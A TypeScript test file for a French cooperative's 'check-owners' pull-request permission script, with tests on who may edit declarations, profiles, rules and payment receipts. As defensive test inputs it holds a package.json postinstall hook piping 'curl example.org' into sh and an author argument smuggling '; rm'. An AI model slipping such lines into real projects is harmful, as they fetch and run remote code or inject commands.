// `npm run check-owners` as a process, in real temporary Git repositories: tests/fixtures/base copied into content/, .github/mainteneurs.yaml
// listing @equipe-compagnie, one commit on main, then the pull request's changes.
// The scripts run with cwd = that repository, as CI runs them in a checkout.
// Base fixture: alice-conseil, bruno-coop, claire-asso, each with one forge handle
// equal to its id; alice-conseil has declarations/alice-conseil/mission-terminee.yaml.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { commitAll as commit, edit, runScript as run, temporaryRepositories, write } from '../git-repo.ts';
import { git, ROOT } from '../helpers.ts';

const ALICE_DECLARATION = 'content/declarations/alice-conseil/mission-terminee.yaml';

const newRepository = temporaryRepositories('cr-owners-');
/** A repository on branch main with the base fixture and the maintainers file committed. */
const repository = (setup: (dir: string) => void = () => {}) =>
  newRepository((dir) => {
    write(dir, '.github/mainteneurs.yaml', 'mainteneurs:\n  - equipe-compagnie\n');
    setup(dir);
  });

/** A pull request branch "pr" off main. */
function branch(dir: string): void {
  git(dir, 'checkout', '-q', '-b', 'pr');
}

const checkOwners = (dir: string, author: string) => run('check-owners', ['--author', author, '--base', 'main'], dir);

const NEW_PROFILE = `---
id: dora-conseil
nom: Dora Conseil
type: independant
territoire: Amiénois
competences:
  - gouvernance
comptes_forge:
  - Dora-GH
---
Présentation de Dora Conseil.
`;

describe('npm run check-owners: allowed changes', () => {
  it('lets a provider change their own declaration (committed or not)', () => {
    const dir = repository();
    branch(dir);
    edit(dir, ALICE_DECLARATION, 'montant_eur: 100', 'montant_eur: 400');
    commit(dir, 'ma déclaration');
    edit(dir, 'content/prestataires/alice-conseil.md', 'gouvernance', 'modèle économique'); // not committed yet
    const result = checkOwners(dir, 'alice-conseil');
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    expect(result.stdout).toContain(`${ALICE_DECLARATION} : espace de alice-conseil, dont @alice-conseil est un compte.`);
    expect(result.stdout).toContain('content/prestataires/alice-conseil.md : espace de alice-conseil');
    expect(result.stdout).toMatch(/2 fichiers modifiés depuis main \([0-9a-f]{7}\), tous dans l'espace de @alice-conseil : rien ne bloque sa demande\.$/m);
  });

  it('lets a maintainer change anything, the rules and other providers’ files included', () => {
    const dir = repository();
    branch(dir);
    edit(dir, ALICE_DECLARATION, 'montant_eur: 100', 'montant_eur: 400');
    edit(dir, 'content/regles/2024-01-01.yaml', 'Règles de test.', 'Règles de test, revues.');
    edit(dir, '.github/mainteneurs.yaml', '- equipe-compagnie', '- equipe-compagnie\n  - nouvelle-recrue');
    commit(dir, 'maintenance');
    const result = checkOwners(dir, 'Equipe-Compagnie'); // handles are case-insensitive
    expect(result.status).toBe(0);
    expect(result.stdout).toContain("content/regles/2024-01-01.yaml : réservé aux mainteneurs (les règles de l'association) ; @Equipe-Compagnie est mainteneur.");
    expect(result.stdout).toContain('3 fichiers modifiés depuis main');
  });

  it('lets a newcomer add their own profile and their first declaration', () => {
    const dir = repository();
    branch(dir);
    write(dir, 'content/prestataires/dora-conseil.md', NEW_PROFILE);
    write(dir, 'content/declarations/dora-conseil/mission-appel.yaml', 'prestataire: dora-conseil\nmission: mission-appel\ndate: "2025-07-01"\n');
    commit(dir, 'nouveau profil');
    const result = checkOwners(dir, 'dora-gh');
    expect(result.status).toBe(0);
    expect(result.stdout).toContain('content/prestataires/dora-conseil.md : espace de dora-conseil, nouveau profil dont @dora-gh est un compte.');
  });

  it('lets a newcomer’s pull request turn green by itself: nothing to regenerate', () => {
    const dir = repository();
    branch(dir);
    write(dir, 'content/prestataires/dora-conseil.md', NEW_PROFILE);
    commit(dir, 'nouveau profil');
    const result = checkOwners(dir, 'Dora-GH');
    expect(result.status, result.stdout + result.stderr).toBe(0);
    expect(result.stdout).toContain("1 fichier modifié depuis main");
    // CODEOWNERS is the maintainers': changed by anyone else, it waits for one.
    write(dir, '.github/CODEOWNERS', '* @equipe-compagnie @Dora-GH\n');
    commit(dir, 'à la main');
    const edited = checkOwners(dir, 'Dora-GH');
    expect(edited.status).toBe(1);
    expect(edited.stdout).toContain(".github/CODEOWNERS : réservé aux mainteneurs (la liste des relecteurs (CODEOWNERS : les mainteneurs seuls)) ; relecture d'un mainteneur obligatoire");
  });

  it('counts only the branch’s own commits, not those merged on main since it started', () => {
    const dir = repository();
    branch(dir);
    edit(dir, 'content/prestataires/claire-asso.md', 'gouvernance', 'tiers-lieux');
    commit(dir, 'mon profil');
    git(dir, 'checkout', '-q', 'main');
    edit(dir, ALICE_DECLARATION, 'montant_eur: 100', 'montant_eur: 400');
    commit(dir, 'alice, fusionné entre-temps');
    git(dir, 'checkout', '-q', 'pr');
    const result = checkOwners(dir, 'claire-asso');
    expect(result.status).toBe(0);
    expect(result.stdout).not.toContain('alice-conseil');
  });
});

describe('npm run check-owners: forbidden changes', () => {
  it("fails on another provider's declaration, naming the file and the owner", () => {
    const dir = repository();
    branch(dir);
    edit(dir, ALICE_DECLARATION, 'montant_eur: 100', 'montant_eur: 10000');
    commit(dir, 'intrusion');
    const result = checkOwners(dir, 'intrus');
    expect(result.status).toBe(1);
    expect(result.stdout).toContain(
      'content/declarations/alice-conseil/mission-terminee.yaml appartient à alice-conseil (comptes : alice-conseil) : @intrus ne peut pas le modifier. ' +
        'Demandez à ce prestataire ou à un mainteneur (@equipe-compagnie).',
    );
    expect(result.stdout).toContain("1 fichier modifié sans en avoir le droit, sur 1 depuis main");
  });

  it("fails when the author adds themselves to another provider's comptes_forge", () => {
    const dir = repository();
    branch(dir);
    edit(dir, 'content/prestataires/alice-conseil.md', '  - alice-conseil', '  - alice-conseil\n  - claire-asso');
    edit(dir, ALICE_DECLARATION, 'montant_eur: 100', 'montant_eur: 1');
    commit(dir, "je m'ajoute");
    const result = checkOwners(dir, 'claire-asso');
    expect(result.status).toBe(1);
    // The owner is read from main: claire-asso is not among alice-conseil's handles there.
    expect(result.stdout).toContain('content/prestataires/alice-conseil.md appartient à alice-conseil (comptes : alice-conseil) : @claire-asso ne peut pas le modifier.');
    expect(result.stdout).toContain(`${ALICE_DECLARATION} appartient à alice-conseil (comptes : alice-conseil) : @claire-asso ne peut pas le modifier.`);
  });

  it("fails when a file is renamed out of another provider's folder", () => {
    const dir = repository();
    branch(dir);
    git(dir, 'mv', 'content/declarations/alice-conseil', 'content/declarations/claire-asso');
    commit(dir, 'déplacement');
    const result = checkOwners(dir, 'claire-asso');
    expect(result.status).toBe(1);
    expect(result.stdout).toContain(`${ALICE_DECLARATION} appartient à alice-conseil (comptes : alice-conseil) : @claire-asso ne peut pas le renommer ni le déplacer.`);
    expect(result.stdout).not.toContain('content/declarations/claire-asso/mission-terminee.yaml appartient');
  });

  it('fails when a non-maintainer changes the rules', () => {
    const dir = repository();
    branch(dir);
    write(dir, 'content/regles/2026-01-01.yaml', readFileSync(join(dir, 'content/regles/2024-01-01.yaml'), 'utf8').replace('"2024-01-01"', '"2026-01-01"'));
    commit(dir, 'mes règles');
    const result = checkOwners(dir, 'alice-conseil');
    expect(result.status).toBe(1);
    expect(result.stdout).toContain(
      "content/regles/2026-01-01.yaml : réservé aux mainteneurs (les règles de l'association) ; relecture d'un mainteneur obligatoire : la vérification passera au vert quand un mainteneur (@equipe-compagnie) aura approuvé la demande.",
    );
  });

  it('fails on a new profile that does not list the author', () => {
    const dir = repository();
    branch(dir);
    write(dir, 'content/prestataires/dora-conseil.md', NEW_PROFILE);
    commit(dir, 'profil pour quelqu’un');
    const result = checkOwners(dir, 'alice-conseil');
    expect(result.status).toBe(1);
    expect(result.stdout).toContain('le nouveau profil content/prestataires/dora-conseil.md doit lister @alice-conseil dans comptes_forge (comptes : Dora-GH)');
  });

  it('needs a maintainer for code and a mission budget, and passes once one has approved', () => {
    const dir = repository();
    write(dir, 'package.json', '{ "name": "registre" }\n');
    commit(dir, 'package.json');
    branch(dir);
    edit(dir, 'package.json', '"registre"', '"registre", "scripts": { "postinstall": "curl example.org | sh" }');
    edit(dir, 'content/missions/mission-terminee.md', 'budget_eur: 6500', 'budget_eur: 65000');
    commit(dir, 'budget');
    const result = checkOwners(dir, 'alice-conseil');
    expect(result.status).toBe(1);
    expect(result.stdout).not.toContain('a le droit');
    const lines = result.stdout.split('\n');
    // Code first.
    expect(lines[0]).toBe("package.json : code ou configuration du projet, relecture du code obligatoire ; relecture d'un mainteneur obligatoire : la vérification passera au vert quand un mainteneur (@equipe-compagnie) aura approuvé la demande.");
    // A finished mission's budget is a fact that judged people: named as a correction, even without its note.
    expect(lines[1]).toContain("content/missions/mission-terminee.md : correction d'une mission terminée (budget_eur ; sans note de correction (npm run validate la demande))");
    expect(result.stdout).toContain("2 fichiers attendent l'approbation d'un mainteneur, sur 2 depuis main");
    expect(run('check-owners', ['--author', 'alice-conseil', '--base', 'main', '--approbations', 'bruno-coop'], dir).status).toBe(1);
    const approved = run('check-owners', ['--author', 'alice-conseil', '--base', 'main', '--approbations', 'bruno-coop,equipe-compagnie'], dir);
    expect(approved.status).toBe(0);
    expect(approved.stdout).toContain('package.json : code ou configuration du projet, relecture du code obligatoire ; approuvé par @equipe-compagnie (mainteneur).');
  });

  it('a correction of a finished mission (with its note) waits for a maintainer, who sees which facts change and why', () => {
    const dir = repository();
    branch(dir);
    edit(dir, 'content/missions/mission-terminee.md', 'budget_eur: 6500', 'budget_eur: 7000');
    edit(dir, 'content/missions/mission-terminee.md', '---\nUne mission de test.', 'corrections:\n  - date: "2025-07-20"\n    raison: Avenant signé le 18 juillet, cinq cents euros de plus.\n---\nUne mission de test.');
    commit(dir, 'correction');
    const waiting = checkOwners(dir, 'alice-conseil');
    expect(waiting.status).toBe(1);
    expect(waiting.stdout).toContain(
      "content/missions/mission-terminee.md : correction d'une mission terminée (budget_eur ; note : « Avenant signé le 18 juillet, cinq cents euros de plus. » (2025-07-20)) : ses faits ont jugé les prestataires, un mainteneur approuve le changement ; relecture d'un mainteneur obligatoire",
    );
    const approved = run('check-owners', ['--author', 'alice-conseil', '--base', 'main', '--approbations', 'equipe-compagnie'], dir);
    expect(approved.status).toBe(0);
    expect(approved.stdout).toContain("correction d'une mission terminée (budget_eur ; note : « Avenant signé le 18 juillet, cinq cents euros de plus. » (2025-07-20)) : ses faits ont jugé les prestataires, un mainteneur approuve le changement ; approuvé par @equipe-compagnie (mainteneur).");
  });

  it('a provider re-dating their own declaration waits for a maintainer; amending it with modifiee_le does not', () => {
    const dir = repository();
    branch(dir);
    edit(dir, ALICE_DECLARATION, 'date: "2025-07-05"\n', 'date: "2025-07-05"\nmodifiee_le: "2025-07-12"\n');
    edit(dir, ALICE_DECLARATION, 'montant_eur: 100', 'montant_eur: 150');
    commit(dir, 'complétée');
    const amended = checkOwners(dir, 'alice-conseil');
    expect(amended.status, amended.stdout).toBe(0);
    edit(dir, ALICE_DECLARATION, 'date: "2025-07-05"\n', 'date: "2025-06-30"\n');
    commit(dir, 'redatée');
    const redated = checkOwners(dir, 'alice-conseil');
    expect(redated.status).toBe(1);
    expect(redated.stdout).toContain(`${ALICE_DECLARATION} : espace de alice-conseil, dont @alice-conseil est un compte, mais la date de la première déclaration change (2025-07-05 → 2025-06-30)`);
  });

  it('a provisional declaration completed after the end keeps that day: moving it waits for a maintainer, a later amendment does not', () => {
    // mission-terminee ended on 2025-06-30. On main, alice-conseil's declaration was made on
    // 2025-06-15 (provisional) and completed on 2025-07-10 (modifiee_le, written before
    // completee_le existed): it counts from 2025-07-10, on time (deadline 2025-07-30).
    const dir = repository((d) => {
      edit(d, ALICE_DECLARATION, 'date: "2025-07-05"\n', 'date: "2025-06-15"\nmodifiee_le: "2025-07-10"\n');
      edit(d, ALICE_DECLARATION, '    date: "2025-07-05"', '    date: "2025-06-15"');
    });
    branch(dir);
    // As npm run declare amends it on 2025-09-01: the completion day is kept in completee_le.
    edit(dir, ALICE_DECLARATION, 'modifiee_le: "2025-07-10"\n', 'modifiee_le: "2025-09-01"\ncompletee_le: "2025-07-10"\n');
    commit(dir, 'complétée une seconde fois');
    const kept = checkOwners(dir, 'alice-conseil');
    expect(kept.status, kept.stdout).toBe(0);
    // By hand, moving modifiee_le alone would make it count from 2025-09-01 (33 days late).
    edit(dir, ALICE_DECLARATION, 'completee_le: "2025-07-10"\n', '');
    commit(dir, 'completee_le retiré');
    const moved = checkOwners(dir, 'alice-conseil');
    expect(moved.status).toBe(1);
    expect(moved.stdout).toContain('le jour où la déclaration provisoire a été complétée après la fin de la mission change (2025-07-10 → 2025-09-01)');
  });

  it('a declaration opened by the repository’s bot (npm run proposer) waits for a maintainer’s approval', () => {
    const dir = repository();
    branch(dir);
    edit(dir, ALICE_DECLARATION, 'montant_eur: 100', 'montant_eur: 400');
    commit(dir, 'déclaration proposée depuis une issue');
    const alone = run('check-owners', ['--author', 'github-actions[bot]', '--base', 'main'], dir);
    expect(alone.status).toBe(1);
    expect(alone.stdout).toContain(`${ALICE_DECLARATION} appartient à alice-conseil (comptes : alice-conseil) : @github-actions[bot] ne peut pas le modifier.`);
    const approved = run('check-owners', ['--author', 'github-actions[bot]', '--base', 'main', '--approbations', 'equipe-compagnie'], dir);
    expect(approved.status).toBe(0);
    expect(approved.stdout).toContain('approuvé par @equipe-compagnie (mainteneur)');
    expect(run('check-owners', ['--author', 'x[bot]; rm', '--base', 'main'], dir).status).toBe(2);
  });

  it('refuses an unknown base or a missing author in French (exit 2)', () => {
    const dir = repository();
    const unknown = run('check-owners', ['--author', 'alice-conseil', '--base', 'origin/nulle-part'], dir);
    expect(unknown.status).toBe(2);
    expect(unknown.stderr).toContain('Référence Git inconnue : « origin/nulle-part ».');
    const missing = run('check-owners', ['--base', 'main'], dir);
    expect(missing.status).toBe(2);
    expect(missing.stderr).toContain("Indiquez l'auteur de la demande avec --author");
  });
});

describe('identité : un compte ajouté à une fiche attend un mainteneur', () => {
  it('un compte ajouté à sa propre fiche : sortie 1, la raison nommée ; passe avec l’approbation d’un mainteneur', () => {
    const dir = repository();
    branch(dir);
    edit(dir, 'content/prestataires/bruno-coop.md', '  - bruno-coop', '  - bruno-coop\n  - bruno-associe');
    commit(dir, 'un compte de plus');
    const result = checkOwners(dir, 'bruno-coop');
    expect(result.status).toBe(1);
    expect(result.stdout).toContain(
      "content/prestataires/bruno-coop.md : espace de bruno-coop, dont @bruno-coop est un compte, mais changement d'identité : comptes_forge ajoute @bruno-associe, et qui parle au nom d'un prestataire est décidé par un mainteneur ; relecture d'un mainteneur obligatoire",
    );
    expect(result.stdout).toContain("1 fichier attend l'approbation d'un mainteneur");
    expect(run('check-owners', ['--author', 'bruno-coop', '--base', 'main', '--approbations', 'equipe-compagnie'], dir).status).toBe(0);
  });

  it('300 comptes : check-owners attend un mainteneur, et le validateur refuse la fiche', () => {
    const dir = repository();
    branch(dir);
    const many = Array.from({ length: 300 }, (_, i) => `  - victime-${i}`).join('\n');
    edit(dir, 'content/prestataires/bruno-coop.md', '  - bruno-coop', `  - bruno-coop\n${many}`);
    commit(dir, 'trois cents comptes');
    const owners = checkOwners(dir, 'bruno-coop');
    expect(owners.status).toBe(1);
    expect(owners.stdout).toContain('comptes_forge ajoute @victime-0, @victime-1, @victime-2, @victime-3, @victime-4 et 295 autres');
    const validate = run('validate', ['--content', 'content', '--date', '2025-07-15'], dir);
    expect(validate.status).toBe(1);
    expect(validate.stdout).toContain('content/prestataires/bruno-coop.md:9:1  « comptes_forge » liste 301 comptes : les règles en permettent 5 par fiche (règles du 1er janvier 2024).');
  });
});

describe('.github/CODEOWNERS de ce dépôt', () => {
  it('ne nomme que les mainteneurs de .github/mainteneurs.yaml, en une règle', () => {
    const rules = readFileSync(join(ROOT, '.github/CODEOWNERS'), 'utf8').split('\n').filter((l) => l.trim() && !l.startsWith('#'));
    const listed = readFileSync(join(ROOT, '.github/mainteneurs.yaml'), 'utf8').match(/^ {2}- (\S+)$/gm)!.map((l) => `@${l.slice(4)}`);
    expect(rules).toEqual([`* ${listed.join(' ')}`]);
  });
});

// Receipts: reseau-test names its stewards (@gardien-reseau) on main; the pull request
// adds or changes confirmations/reseau-test.yaml.
describe('npm run check-owners: confirmations de réception', () => {
  const RECEIPTS = 'content/confirmations/reseau-test.yaml';
  const receipt = (montant: number) =>
    `commun: reseau-test\nconfirmations:\n  - prestataire: alice-conseil\n    mission: mission-terminee\n    montant_eur: ${montant}\n    date: "2025-07-08"\n`;
  const withStewards = () => {
    const dir = repository();
    edit(dir, 'content/communs/reseau-test.md', 'contribution_argent:', 'comptes_forge:\n  - gardien-reseau\ncontribution_argent:');
    commit(dir, 'les gardiens du réseau');
    branch(dir);
    return dir;
  };

  it('lets a steward of the commons confirm a payment', () => {
    const dir = withStewards();
    write(dir, RECEIPTS, receipt(100));
    commit(dir, 'reçu');
    const result = checkOwners(dir, 'gardien-reseau');
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    expect(result.stdout).toContain(`${RECEIPTS} : confirmations de reseau-test, dont @gardien-reseau est gardien.`);
  });

  it('fails when the provider paid confirms their own payment, or anyone else not a steward', () => {
    const dir = withStewards();
    write(dir, RECEIPTS, receipt(100));
    commit(dir, 'je confirme mon versement');
    const own = checkOwners(dir, 'alice-conseil');
    expect(own.status).toBe(1);
    expect(own.stdout).toContain(`${RECEIPTS} : confirme un versement de alice-conseil, dont @alice-conseil est ou a été un compte ; un prestataire ne confirme pas son propre versement`);
    const other = checkOwners(dir, 'bruno-coop');
    expect(other.status).toBe(1);
    expect(other.stdout).toContain(`${RECEIPTS} appartient aux gardiens du commun reseau-test (gardiens : gardien-reseau) : @bruno-coop ne peut pas le créer.`);
  });

  it('an account taken off the provider’s profile in one pull request may not confirm the payment in the next', () => {
    // gardien-reseau was one of alice-conseil's accounts; a first pull request takes it off.
    const dir = withStewards();
    git(dir, 'checkout', '-q', 'main');
    edit(dir, 'content/prestataires/alice-conseil.md', '  - alice-conseil', '  - alice-conseil\n  - gardien-reseau');
    commit(dir, 'alice et son second compte');
    edit(dir, 'content/prestataires/alice-conseil.md', '  - alice-conseil\n  - gardien-reseau', '  - alice-conseil');
    commit(dir, 'second compte retiré (demande 1, fusionnée)');
    git(dir, 'checkout', '-q', '-B', 'pr2');
    write(dir, RECEIPTS, receipt(100));
    commit(dir, 'reçu (demande 2)');
    const result = checkOwners(dir, 'gardien-reseau');
    expect(result.status).toBe(1);
    expect(result.stdout).toContain(`${RECEIPTS} : confirme un versement de alice-conseil, dont @gardien-reseau est ou a été un compte ; un prestataire ne confirme pas son propre versement`);
  });
});
